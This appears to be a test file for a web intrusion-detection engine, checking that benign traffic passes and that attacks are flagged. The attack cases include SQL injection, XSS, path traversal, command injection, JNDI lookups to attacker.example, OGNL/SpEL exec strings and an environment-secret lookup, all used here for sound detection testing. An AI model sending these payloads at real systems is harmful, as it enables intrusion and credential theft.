  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)',
  'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)',
  'Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.289 Version/12.00',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
  'Scrapy/2.11.0 (+https://scrapy.org)',
  'libwww-perl/6.67',
  'Java/1.8.0_151',
];

const BENIGN_REFERERS: readonly string[] = [
  'https://www.google.com/',
  'https://www.google.com/search?q=best+union+jobs&oq=best',
  'https://example.com/blog/2024/01/a-post.md',
  'https://news.ycombinator.com/item?id=38800000',
  'https://t.co/AbC123',
  'android-app://com.google.android.gm/',
  'https://example.com/search?q=O%27Reilly+books',
  'https://duckduckgo.com/?q=rock+%26+roll&t=h_',
  'https://shop.example/cart?items=1,2,3#checkout',
  'http://localhost:3000/admin/users?page=2',
];

const BENIGN_COOKIES: readonly string[] = [
  '_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000',
  'sessionid=abc123def456; csrftoken=Zx9yW8vU7tS6rQ5pO4nM3lK2jI1hG0fE',
  'connect.sid=s%3AQ2x3YkZ0.aBcDeFgHiJkLmNoPqRsTuVwXyZ012345%2Babc%2Fdef',
  'token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  'prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en%22%7D',
  'cart=item1%3A2%7Citem2%3A1',
  'consent=yes; tz=Europe%2FBerlin; lang=en-US',
  'PHPSESSID=8f3c2a1b9d7e6f5a4b3c2d1e0f9a8b7c',
  'remember_me="user@example.com|1700000000|abcdef"',
  '_fbp=fb.1.1700000000000.123456789; __stripe_mid=abc-def-123',
];

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';

const BENIGN_BODIES: readonly [string, string][] = [
  [FORM, 'username=alice&password=S3cr3t%21%40%23&remember=on'],
  [FORM, 'name=O%27Reilly&email=tim%40example.com&message=Hello%2C+I%27d+like+a+quote+for+50%25+off.'],
  [FORM, 'comment=I+love+rock+%26+roll%3B+and+jazz.&rating=5'],
  [FORM, 'q=how+to+use+select+in+sql&page=2'],
  [FORM, 'title=My+first+post&body=%3Cp%3EHello+%3Cb%3Eworld%3C%2Fb%3E%3C%2Fp%3E'],
  [FORM, 'address=221B+Baker+St.&city=London&zip=NW1+6XE'],
  [FORM, 'search=C%23+or+F%23&sort=name+desc'],
  [FORM, 'bio=Developer+%7C+Runner+%7C+Coffee+lover'],
  [FORM, 'note=Meeting+at+10%3A30%3B+bring+laptop+%26+charger'],
  [FORM, 'password=P%40ss%27word123'],
  [FORM, 'amount=1%2C000.50&currency=USD'],
  [FORM, 'url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2'],
  [FORM, 'text=Wait...+what%3F+%3A-%29'],
  [FORM, 'phone=%2B1+(555)+010-0199'],
  [FORM, 'message=Dear+team%2C%0D%0A%0D%0AThanks+for+the+update%3B+see+you+Monday.%0D%0A-- %0D%0AJane'],
  [JSON_TYPE, '{"username":"alice","password":"hunter2"}'],
  [JSON_TYPE, '{"query":"select the best union jobs","page":1}'],
  [JSON_TYPE, `{"name":"O'Reilly","tags":["books","tech"],"price":29.99}`],
  [JSON_TYPE, '{"html":"<p>Hello <strong>there</strong>, <a href=\\"https://example.com\\">link</a></p>"}'],
  [JSON_TYPE, '{"id":"550e8400-e29b-41d4-a716-446655440000","created":"2024-01-05T10:30:00Z"}'],
  [
    JSON_TYPE,
    '{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}',
  ],
  [JSON_TYPE, `{"description":"Rock & roll; the best of the 60's and 70's","rating":4.5}`],
  [JSON_TYPE, '{"filter":{"and":[{"field":"age","op":">","value":30},{"field":"name","op":"like","value":"Jo%"}]}}'],
  [JSON_TYPE, `{"message":"Let's meet at 5 or 6 \\u2014 whichever works","to":["bob@example.com"]}`],
  [JSON_TYPE, '{"path":"/docs/guide/intro.md","branch":"main"}'],
  [JSON_TYPE, '{"code":"const x = a < b ? 1 : 2;","lang":"js"}'],
  [JSON_TYPE, '{"search":"1 and 2","limit":10}'],
  [JSON_TYPE, '{"comment":"I <3 this product!!!","stars":5}'],
  [JSON_TYPE, '{"query":"query GetUser($id: ID!) { user(id: $id) { name email } }","variables":{"id":"42"}}'],
  [JSON_TYPE, '{"events":[{"type":"click","target":"#buy-now","ts":1700000000123},{"type":"scroll","y":840}]}'],
  [
    'application/vnd.api+json',
    '{"data":{"type":"articles","attributes":{"title":"Rails is Omakase","body":"The best of both worlds; really."}}}',
  ],
  ['text/plain', "Hi there,\nI'd like to order 3 boxes -- the blue ones, not the red.\nThanks & regards,\nO'Brien"],
  ['text/csv', 'id,name,email\n1,"Smith, John",john@example.com\n2,"O\'Hara",ohara@example.com\n'],
  ['application/xml', '<?xml version="1.0"?><order><id>1</id><note>Tom &amp; Jerry</note><item sku="A-1" qty="2"/></order>'],
  ['text/markdown', '# Release notes\n\n- Fixed a bug where `a < b` was wrong\n- See [docs](https://example.com/docs/a.md)\n'],
  ['application/octet-stream', '\u0000\u0001binary;id;../../etc/passwd<script>'],
  ['image/png', '\u0089PNG\r\n\u001a\n<script>alert(1)</script>'],
];

/** A 2 KiB API body of ordinary strings. */
const BENIGN_JSON_2K = JSON.stringify({
  order: {
    id: 'ord_7f3a9c2e41b8',
    customer: { name: "Siobhan O'Connor", email: 'siobhan.oconnor@example.ie', phone: '+353 1 555 0142' },
    shipping: { street: '12 Harbour View, Apt. 4B', city: 'Dún Laoghaire', country: 'IE', notes: 'Leave at the door; ring twice.' },
    items: Array.from({ length: 9 }, (_, i) => ({
      sku: `SKU-${1000 + i}`,
      title: ['Rock & Roll T-shirt', 'Coffee mug (12 oz)', "Kids' rain boots", 'USB-C cable, 2 m', 'Notebook A5 — dotted'][i % 5],
      qty: (i % 3) + 1,
      price: 9.99 + i,
    })),
    coupon: '50% OFF WINTER',
    created: '2024-01-05T10:30:00Z',
  },
});

describe('ordinary traffic is not flagged', () => {
  for (const url of BENIGN_URLS) {
    it(`url ${url}`, () => assert.deepEqual(engine.inspectRequest(url, { 'user-agent': BROWSER_UA }), []));
  }
  for (const ua of BENIGN_USER_AGENTS) {
    it(`user-agent ${ua}`, () => assert.deepEqual(engine.inspectRequest('/', { 'user-agent': ua }), []));
  }
  for (const referer of BENIGN_REFERERS) {
    it(`referer ${referer}`, () => assert.deepEqual(engine.inspectRequest('/', { referer }), []));
  }
  for (const cookie of BENIGN_COOKIES) {
    it(`cookie ${cookie}`, () => assert.deepEqual(engine.inspectRequest('/', { cookie }), []));
  }
  for (const xff of ['203.0.113.7', '203.0.113.7, 10.0.0.1', '2001:db8::1, 198.51.100.23']) {
    it(`x-forwarded-for ${xff}`, () => assert.deepEqual(engine.inspectRequest('/', { 'x-forwarded-for': xff }), []));
  }
  for (const [type, body] of BENIGN_BODIES) {
    it(`${type} body ${JSON.stringify(body.slice(0, 60))}`, () =>
      assert.deepEqual(engine.inspectBody(Buffer.from(body, 'latin1'), type), []));
  }
  it('a 2 KiB JSON order', () => assert.deepEqual(engine.inspectBody(Buffer.from(BENIGN_JSON_2K), JSON_TYPE), []));
  it('a multipart upload with a text field and a binary file', () => {
    const body = Buffer.concat([
      Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photos & notes; day 1\r\n'),
      Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="file"; filename="beach.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'),
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x3c, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3e, 0x2e, 0x2e, 0x2f]),
      Buffer.from('\r\n--XyZ--\r\n'),
    ]);
    assert.deepEqual(engine.inspectBody(body, 'multipart/form-data; boundary=XyZ'), []);
  });
});

describe('multipart', () => {
  it('inspects text fields and file names', () => {
    const body =
      '--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1 UNION SELECT 1,2\r\n--b\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\nContent-Type: image/png\r\n\r\nxx\r\n--b--\r\n';
    const rules = engine
      .inspectBody(Buffer.from(body), 'multipart/form-data; boundary=b')
      .map((m) => m.rule)
      .sort();
    assert.deepEqual(rules, ['path-traversal', 'sqli']);
  });
});

describe('matches', () => {
  it('carry the built-in severity and at most one per (rule, location)', () => {
    const matches = engine.inspectRequest(`/a?x=${encodeURIComponent("' or 1=1--")}&y=${encodeURIComponent('1 union select 1,2')}`, {
      'user-agent': "' or 1=1--",
    });
    assert.deepEqual(
      matches.map((m) => [m.rule, m.location, m.severity]),
      [
        ['sqli', 'query', 'critical'],
        ['sqli', 'header:user-agent', 'critical'],
      ],
    );
  });
  it('report every category found', () => {
    const rules = engine
      .inspectRequest(`/x?a=${encodeURIComponent('<script>alert(1)</script>')}&b=${encodeURIComponent('; cat /etc/passwd')}`, {})
      .map((m) => `${m.rule}@${m.location}`);
    assert.deepEqual(rules.sort(), ['command-injection@query', 'path-traversal@query', 'xss@query']);
  });
  it('severity scores rise with severity', () => {
    assert.ok(
      SEVERITY_SCORE.low < SEVERITY_SCORE.medium &&
        SEVERITY_SCORE.medium < SEVERITY_SCORE.high &&
        SEVERITY_SCORE.high < SEVERITY_SCORE.critical,
    );
  });
  it('absolute-form request targets are inspected by their path and query', () => {
    assert.equal(engine.inspectRequest('http://shop.example/a?id=1%20or%201%3D1', {})[0]?.location, 'query');
    assert.equal(engine.inspectRequest('http://shop.example/../../etc/passwd', {})[0]?.rule, 'path-traversal');
  });
  it('X-Original-URL is inspected as a path', () => {
    const matches = engine.inspectRequest('/', { 'x-original-url': '/admin/../../etc/passwd' });
    assert.deepEqual(
      matches.map((m) => [m.rule, m.location]),
      [['path-traversal', 'header:x-original-url']],
    );
  });
  it('a repeated clean header is not inspected again, and an attack in it always is', () => {
    const fresh = createIdsEngine([]);
    for (let i = 0; i < 3; i++) assert.deepEqual(fresh.inspectRequest('/', { 'user-agent': BROWSER_UA }), []);
    for (let i = 0; i < 3; i++) assert.equal(fresh.inspectRequest('/', { 'user-agent': '<script>alert(1)</script>' }).length, 1);
  });
  it('the clean-value cache remembers interleaved values and forgets every one of them when full', () => {
    const clean = new CleanHeaders();
    const firefox = BROWSER_UA.replace('Chrome/124.0.0.0', 'Firefox/133.0');
    clean.add('user-agent', BROWSER_UA);
    clean.add('user-agent', firefox);
    // Each value arrives as a new string, as the HTTP parser makes them.
    const copy = (value: string): string => Buffer.from(value).toString('latin1');
    for (const value of [BROWSER_UA, firefox, BROWSER_UA, firefox]) assert.equal(clean.has('user-agent', copy(value)), true);
    assert.equal(clean.has('user-agent', copy(BROWSER_UA.replace('124', '125'))), false);
    assert.equal(clean.has('accept', copy(BROWSER_UA)), false);
    // A client sending thousands of fresh values: the cache is emptied, the value seen last included.
    for (let i = 0; i < 5000; i++) clean.add('x-junk', `v${i}`);
    assert.equal(clean.has('user-agent', copy(BROWSER_UA)), false);
    assert.equal(clean.has('user-agent', copy(firefox)), false);
  });
  it('the clean-value cache keeps the header names it saw first', () => {
    const clean = new CleanHeaders();
    clean.add('user-agent', BROWSER_UA);
    for (let i = 0; i < 500; i++) clean.add(`x-name-${i}`, 'a');
    assert.equal(clean.has('user-agent', BROWSER_UA), true);
    assert.equal(clean.has('x-name-499', 'a'), false);
  });
});

describe('custom rules', () => {
  const custom = createIdsEngine([
    { name: 'no-wp-admin', pattern: '^/wp-admin', severity: 'medium', action: 'block' },
    { name: 'debug-flag', pattern: 'debug=(?:1|true)', severity: 'low', action: 'log' },
    { name: 'scanner', pattern: 'sqlmap|nikto', severity: 'high', action: 'block' },
  ]);
  it('match case-insensitively and carry severity and action', () => {
    assert.deepEqual(custom.inspectRequest('/WP-Admin/install.php', {}), [
      { rule: 'no-wp-admin', category: 'custom', severity: 'medium', action: 'block', location: 'path' },
    ]);
  });
  it('match the decoded query', () => {
    assert.deepEqual(custom.inspectRequest('/a?DEBUG%3dTrue', {}), [
      { rule: 'debug-flag', category: 'custom', severity: 'low', action: 'log', location: 'query' },
    ]);
  });
  it('match any header, as sent or percent-decoded', () => {
    assert.deepEqual(custom.inspectRequest('/', { 'x-scanner': 'nikto/2.5' }), [
      { rule: 'scanner', category: 'custom', severity: 'high', action: 'block', location: 'header:x-scanner' },
    ]);
    assert.deepEqual(
      custom.inspectRequest('/', { 'x-flags': 'debug%3D1' }).map((m) => m.location),
      ['header:x-flags'],
    );
  });
  it('match a body in every decoding the built-in detectors see (issue 14)', () => {
    const bodyRules = createIdsEngine([
      { name: 'internal-field', pattern: 'internal_role\\s*=\\s*admin', severity: 'medium', action: 'block' },
      { name: 'blink', pattern: '<blink>', severity: 'low', action: 'log' },
    ]);
    const form = bodyRules.inspectBody(Buffer.from('name=alice&internal_role+%3D+admin'), 'application/x-www-form-urlencoded');
    assert.deepEqual(form, [{ rule: 'internal-field', category: 'custom', severity: 'medium', action: 'block', location: 'body' }]);
    const json = bodyRules.inspectBody(Buffer.from('{"bio":"\\u003cblink>hi"}'), 'application/json');
    assert.deepEqual(
      json.map((m) => m.rule),
      ['blink'],
    );
    const deep = bodyRules.inspectBody(Buffer.from(`${'x'.repeat(60_000)} internal_role = admin`), 'text/plain');
    assert.deepEqual(
      deep.map((m) => m.rule),
      ['internal-field'],
    );
    const multipart = bodyRules.inspectBody(
      Buffer.from('--b\r\nContent-Disposition: form-data; name="r"\r\n\r\ninternal_role=admin\r\n--b--\r\n'),
      'multipart/form-data; boundary=b',
    );
    assert.deepEqual(
      multipart.map((m) => m.rule),
      ['internal-field'],
    );
    assert.deepEqual(bodyRules.inspectBody(Buffer.from('name=alice&role=admin'), 'application/x-www-form-urlencoded'), []);
    assert.deepEqual(bodyRules.inspectBody(Buffer.from('\u0089PNG internal_role=admin'), 'image/png'), [], 'binary bodies are not read');
  });
  it('match the selected headers', () => {
    assert.deepEqual(custom.inspectRequest('/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }), [
      { rule: 'scanner', category: 'custom', severity: 'high', action: 'block', location: 'header:user-agent' },
    ]);
  });
  it('are reported at most once per request', () => {
    const matches = custom.inspectRequest('/nikto?nikto=1', { 'user-agent': 'Nikto', referer: 'https://x/nikto' });
    assert.deepEqual(
      matches.map((m) => m.rule),
      ['scanner'],
    );
  });
  it('run beside the built-in rules', () => {
    const rules = custom
      .inspectRequest('/wp-admin/x?id=1%20or%201%3D1', {})
      .map((m) => m.rule)
      .sort();
    assert.deepEqual(rules, ['no-wp-admin', 'sqli']);
  });
  it('an invalid pattern is refused when the engine is built', () => {
    assert.throws(() => createIdsEngine([{ name: 'broken', pattern: '(', severity: 'low', action: 'log' }]), TypeError);
  });
});

describe('hostile input never throws', () => {
  const inputs = [
    '',
    '%',
    '%%%',
    '%zz',
    '%u12',
    '%c0',
    '%ff%fe',
    '?',
    '?&&==&',
    '*',
    'http://',
    'http://h',
    '/\ud800',
    '/%ed%a0%80',
    '/a?%=%',
    '/a?\u0000=\u0000',
    `/${'%'.repeat(5000)}`,
  ];
  for (const url of inputs) {
    it(`url ${JSON.stringify(url.slice(0, 40))}`, () => {
      assert.ok(
        Array.isArray(
          engine.inspectRequest(url, { cookie: ['a=%', 'b'], 'user-agent': ['x', 'y'], referer: 'http://', 'x-forwarded-for': undefined }),
        ),
      );
    });
  }
  for (const [type, body] of [
    [JSON_TYPE, '{"a":"\\u12'],
    [JSON_TYPE, '{"a":"\\'],
    [JSON_TYPE, '"'],
    [FORM, '%%%&=&==%zz'],
    ['multipart/form-data', '--x\r\n'],
    ['multipart/form-data; boundary=x', '--x\r\n\r\n--x'],
    [undefined, '\u00ff\u00fe'],
  ] as const) {
    it(`body ${String(type)} ${JSON.stringify(body)}`, () =>
      assert.ok(Array.isArray(engine.inspectBody(Buffer.from(body, 'latin1'), type))));
  }
});

describe('pathological input is handled in bounded work', () => {
  const huge = (unit: string): string => unit.repeat(Math.ceil(100_000 / unit.length));
  const units = [
    "'",
    '"',
    '<',
    '(',
    '%',
    '../',
    '<a ',
    '<a x="',
    '&#',
    '/*',
    '$(',
    ';',
    '`',
    '\\',
    'on=',
    '||',
    '@@',
    ' or ',
    '%25',
    '%c0%ae',
    'javascript:',
  ];
  for (const unit of units) {
    it(`100 KB of ${JSON.stringify(unit)}`, () => {
      const value = huge(unit);
      const matches = engine.inspectRequest(`/a?q=${encodeURIComponent(value)}`, { 'user-agent': value, cookie: `a=${value}` });
      assert.ok(Array.isArray(matches));
      assert.ok(Array.isArray(engine.inspectBody(Buffer.from(value), 'text/plain')));
      assert.ok(Array.isArray(engine.inspectBody(Buffer.from(JSON.stringify({ v: value })), JSON_TYPE)));
      if (unit === '../') assert.ok(matches.some((m) => m.rule === 'path-traversal'));
    });
  }
});

describe('detectors', () => {
  it('decodePercent handles double, overlong and IIS encodings and leaves invalid escapes', () => {
    assert.equal(decodePercent('%252e%252e%252f', false), '../');
    assert.equal(decodePercent('%c0%ae%c0%af', false), './');
    assert.equal(decodePercent('%u002e%u2215', false), '.\u2215');
    assert.equal(decodePercent('a+b%2Bc', true), 'a b+c');
    assert.equal(decodePercent('100%', false), '100%');
    assert.equal(decodePercent('%zz%4', false), '%zz%4');
    assert.equal(decodePercent('caf%C3%A9', false), 'caf\u00e9');
    assert.equal(decodePercent('Jam%F3n', false), 'Jam\ufffdn'); // Latin-1 byte: not UTF-8
    const plain = '/index.html';
    assert.equal(decodePercent(plain, false), plain);
  });
  it('each detector takes its own category only', () => {
    assert.equal(detectSqli("' or 1=1--"), true);
    assert.equal(detectXss("' or 1=1--"), false);
    assert.equal(detectXss('<svg onload=alert(1)>'), true);
    assert.equal(detectSqli('<svg onload=alert(1)>'), false);
    assert.equal(detectTraversal('/a/../b'), true);
    assert.equal(detectTraversal('/a/..b/c..'), false);
    assert.equal(detectCommand('; id'), true);
    assert.equal(detectCommand('a; b'), false);
  });
});

// The corpus numbers quoted in reports.
describe('corpus size', () => {
  it('has at least 150 attacks and 150 benign samples', () => {
    const benign =
      BENIGN_URLS.length + BENIGN_USER_AGENTS.length + BENIGN_REFERERS.length + BENIGN_COOKIES.length + BENIGN_BODIES.length + 5;
    assert.ok(ATTACKS.length >= 150, `${ATTACKS.length} attacks`);
    assert.ok(benign >= 150, `${benign} benign`);
  });
});

describe('expression-language injection in headers', () => {
  const engine = createIdsEngine([]);
  const attacks: [string, string][] = [
    ['x-api-version', '${jndi:ldap://attacker.example/a}'],
    ['user-agent', '${${lower:j}ndi:${lower:r}mi://attacker.example/x}'],
    ['referer', '${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/y}'],
    ['x-forwarded-host', '${env:AWS_SECRET_ACCESS_KEY}'],
    ['content-type', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"],
    ['content-type', "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check','1')}.multipart/form-data"],
    ['x-custom', '#{T(java.lang.Runtime).getRuntime().exec("id")}'],
  ];
  for (const [name, value] of attacks) {
    it(`finds ${value.slice(0, 40)} in ${name}`, () => {
      const matches = engine.inspectRequest('/', { [name]: value });
      assert.ok(
        matches.some((match) => match.rule === 'expression-injection' && match.location === `header:${name}` && match.action === 'block'),
        JSON.stringify(matches),
      );
    });
  }
  const benign: [string, string][] = [
    ['content-type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW'],
    ['content-type', 'application/json; charset=utf-8'],
    ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
    ['x-request-id', '{"trace":"abc","span":"def"}'],
    ['user-agent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
    ['x-template', 'Hello ${name}, your total is ${total}'],
    ['if-none-match', 'W/"5e-1a2b3c"'],
  ];
  for (const [name, value] of benign) {
    it(`leaves ${name}: ${value.slice(0, 40)}`, () => {
      assert.deepEqual(
        engine.inspectRequest('/', { [name]: value }).filter((match) => match.rule === 'expression-injection'),
        [],
      );
    });
  }
  it('detectExpression is bounded on pathological input', () => {
    assert.equal(detectExpression('${'.repeat(50_000)), true);
    assert.equal(detectExpression('{'.repeat(100_000)), false);
  });
});

describe('every header is inspected, each by its grammar (issue 14)', () => {
  const engine = createIdsEngine([]);
  const basic = (credentials: string): string => `Basic ${Buffer.from(credentials).toString('base64')}`;
  const attacks: [string, string, string][] = [
    ['x-foo', "' OR 1=1--", 'sqli'],
    ['x-tenant-id', '1 UNION SELECT null,null--', 'sqli'],
    ['accept', "text/html' AND SLEEP(5)#", 'sqli'],
    ['accept-language', '<svg onload=alert(1)>', 'xss'],
    ['x-forwarded-host', '"><script>alert(1)</script>', 'xss'],
    ['x-file', '..%2f..%2f..%2fetc%2fpasswd', 'path-traversal'],
    ['x-callback', 'http://x/;cat /etc/passwd', 'command-injection'],
    ['host', "shop.example' OR '1'='1", 'sqli'],
    ['authorization', basic("admin'--:secret"), 'sqli'],
    ['authorization', 'Digest username="x\' or 1=1--", realm="r", uri="/a", response="0"', 'sqli'],
    ['proxy-authorization', basic('<script>alert(1)</script>:pw'), 'xss'],
    ['content-type', 'multipart/form-data; boundary="x\' UNION SELECT 1,2--"', 'sqli'],
    ['if-none-match', "\"a' OR '1'='1\"", 'sqli'],
    ['origin', 'https://shop.example/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss'],
    ['referer', 'https://shop.example/#/search?q=1%20union%20select%201,2', 'sqli'],
    ["x-'or'1'--", 'value', 'sqli'],
  ];
  for (const [name, value, rule] of attacks) {
    it(`finds ${rule} in ${name}: ${value}`, () => {
      const matches = engine.inspectRequest('/', { host: 'shop.example', [name]: value });
      assert.ok(
        matches.some((m) => m.rule === rule && m.location === `header:${name}` && m.action === 'block'),
        JSON.stringify(matches),
      );
    });
  }

  /** Values real browsers, API clients and proxies send. */
  const benign: [string, string][] = [
    ['host', 'shop.example:8443'],
    ['host', '[2001:db8::1]:443'],
    [
      'accept',
      'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7',
    ],
    ['accept', 'application/json, text/plain, */*'],
    ['accept', 'application/vnd.github+json'],
    ['accept', 'text/event-stream'],
    ['accept-language', 'de-CH,de;q=0.9,fr-CH;q=0.8,fr;q=0.7,en-US;q=0.6,en;q=0.5'],
    ['accept-language', 'zh-Hans-CN,zh-CN;q=0.9,ja;q=0.8'],
    ['accept-encoding', 'gzip, deflate, br, zstd'],
    ['accept-charset', 'utf-8, iso-8859-1;q=0.5, *;q=0.1'],
    ['cache-control', 'max-age=0, no-cache, no-store, must-revalidate'],
    ['pragma', 'no-cache'],
    ['connection', 'keep-alive, Upgrade'],
    ['upgrade', 'websocket'],
    ['sec-websocket-key', 'dGhlIHNhbXBsZSBub25jZQ=='],
    ['sec-websocket-extensions', 'permessage-deflate; client_max_window_bits'],
    ['sec-ch-ua', '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
    ['sec-ch-ua-platform', '"Windows"'],
    ['sec-ch-ua-mobile', '?0'],
    ['sec-fetch-site', 'same-origin'],
    ['sec-fetch-dest', 'document'],
    ['priority', 'u=0, i'],
    ['dnt', '1'],
    ['if-none-match', 'W/"5e-1a2b3c", "xyzzy", "r2d2xxxx"'],
    ['if-none-match', '"33a64df551425fcc55e4d42a148795d9f25f89d4"'],
    ['if-none-match', '*'],
    ['if-modified-since', 'Wed, 21 Oct 2015 07:28:00 GMT'],
    ['if-range', '"67ab43"'],
    ['range', 'bytes=0-1023, 2048-'],
    ['content-type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW'],
    ['content-type', 'multipart/form-data; boundary=------------------------d74496d66958873e'],
    ['content-type', 'application/x-www-form-urlencoded; charset=UTF-8'],
    ['content-type', 'text/plain; charset="utf-8"'],
    ['authorization', basic("alice:k7'#Lp2 OR x=x--")],
    ['authorization', basic('bob@example.com:correct horse battery staple; DROP')],
    [
      'authorization',
      'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    ],
    [
      'authorization',
      'Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", algorithm=SHA-256, nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", nc=00000001, cnonce="f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ", qop=auth, response="753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1", opaque="FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS"',
    ],
    [
      'authorization',
      'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7',
    ],
    ['authorization', 'Negotiate YIIGhgYJKoZIhvcSAQICAQBuggZ1MIIGcaADAgEFoQMCAQ6iBwMFACAAAACjggSKYYIEhjCCBIKgAwIBBQ=='],
    ['referer', 'https://www.google.com/search?q=select+union+jobs&oq=select+union&sourceid=chrome&ie=UTF-8'],
    ['referer', 'https://shop.example/#/products?sort=price&dir=desc'],
    ['origin', 'https://shop.example'],
    ['origin', 'null'],
    ['x-forwarded-for', '203.0.113.7, 10.0.0.1'],
    ['forwarded', 'for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"'],
    ['x-request-id', '550e8400-e29b-41d4-a716-446655440000'],
    ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
    ['tracestate', 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE'],
    ['baggage', 'userId=alice,serverNode=DF%2028,isProduction=false'],
    ['x-csrf-token', 'Fv3S9Jd0pQ8v+Zx/ab12=='],
  ];
  for (const [name, value] of benign) {
    it(`leaves ${name}: ${value.slice(0, 60)}`, () => assert.deepEqual(engine.inspectRequest('/', { [name]: value }), []));
  }
  it('a client inventing header names or values changes no verdict', () => {
    const fresh = createIdsEngine([]);
    for (let i = 0; i < 3000; i++) assert.deepEqual(fresh.inspectRequest('/', { [`x-h${i}`]: `v${i}`, accept: 'text/html' }), []);
    assert.equal(fresh.inspectRequest('/', { accept: "text/html' OR 1=1--" }).length, 1);
    assert.equal(fresh.inspectRequest('/', { 'x-h5': "' OR 1=1--" }).length, 1);
    assert.deepEqual(fresh.inspectRequest('/', { accept: 'text/html' }), []);
  });
  it('a Basic password is not inspected, the user-id is', () => {
    assert.deepEqual(engine.inspectRequest('/', { authorization: basic("alice:' OR 1=1--") }), []);
    assert.equal(engine.inspectRequest('/', { authorization: basic("' OR 1=1--:x") }).length, 1);
  });
});

/**
 * Issue 14: text people send, in every placement (query value, form field,
 * JSON value, an arbitrary header): application queries and search terms,
 * code in forms, non-English text, Markdown, JSON, URLs and CMS embeds.
 * None may be flagged.
 */
describe('ordinary text of every kind is never flagged, wherever it is placed (issue 14)', () => {
  const engine = createIdsEngine([]);
  const samples: readonly string[] = [
    // Search terms and application queries.
    'union station parking garage',
    'select committee on intelligence',
    'order by date desc',
    'drop shipping vs wholesale',
    'where to buy a 1 or 2 bedroom flat',
    'insert coin to continue',
    'delete my account',
    'update firmware 2.1 -> 2.3',
    'waitfor delay in sql server',
    'how to use CASE WHEN in postgres',
    'sleep apnea: 5 hours a night or less',
    'true or false quiz',
    '1 or 2 tickets',
    'price:>100 brand:"Acme" -refurbished',
    'title:"War and Peace" OR author:Tolstoy',
    '"exact phrase" -exclude +include site:example.com',
    'C# vs F# performance',
    "Rock 'n' Roll Hall of Fame",
    "Don't Stop Me Now -- Queen (1978)",
    "O'Reilly's book on SQL: select, join, group by",
    'AT&T; Verizon; T-Mobile',
    '50% off -- today only!',
    'size 10.5 (US) / 44 (EU)',
    // Code in forms (questions on a forum, snippets in an issue tracker).
    'for (let i = 0; i < items.length; i++) { total += items[i].price; }',
    'if (a > b && c < d) { return a; } else { return b; }',
    'SELECT name, email FROM users WHERE id = ?',
    "const query = 'SELECT * FROM orders WHERE status = $1';",
    'def area(r):\n    return 3.14159 * r ** 2  # circle',
    'x = [i for i in range(10) if i % 2 == 0]',
    'console.log(buf.readInt16BE(0));\n// Prints: 5',
    'assert.strictEqual(1, 1); // OK',
    '### `child_process.execFile(file[, args][, options][, callback])`',
    'git commit -m "Fix the login form" && git push',
    '```js\nconsole.log(`total: ${total}`);\n```',
    'Use `npm install --save-dev typescript` first.',
    '<p>Hello <strong>world</strong>, see <a href="https://example.com/docs">the docs</a>.</p>',
